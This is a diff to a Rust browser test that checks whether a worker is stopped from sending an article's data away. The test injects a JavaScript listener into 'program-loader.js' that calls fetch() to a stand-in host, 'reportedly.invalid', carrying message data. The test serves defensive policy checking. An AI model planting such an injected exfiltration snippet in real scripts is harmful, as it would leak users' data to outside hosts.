@@ -84,9 +84,12 @@ fn a_frame_s_worker_is_under_the_policy_of_the_frame() {
 
 #[test]
 fn a_worker_for_links_that_would_send_the_article_away_cannot() {
-    let (answers, sends) =
-        ("postMessage({ number, result:", "fetch('http://reportedly.invalid/?' + method).catch(() => {});");
-    let leaking = |script: &str| replaced(script, answers, &[sends, answers].join(" "));
+    const SENDS: &str = "
+        if (!globalThis.document) {
+            const send = ({ data }) => fetch('http://reportedly.invalid/?' + data.method).catch(() => {});
+            addEventListener('message', send);
+        }";
+    let leaking = |script: &str| format!("{SENDS}\n{script}");
     Visit::of_the_build().with_changed("program-loader.js", leaking).run(async |page| {
         read_ferry(page).await;
         share(page).await;
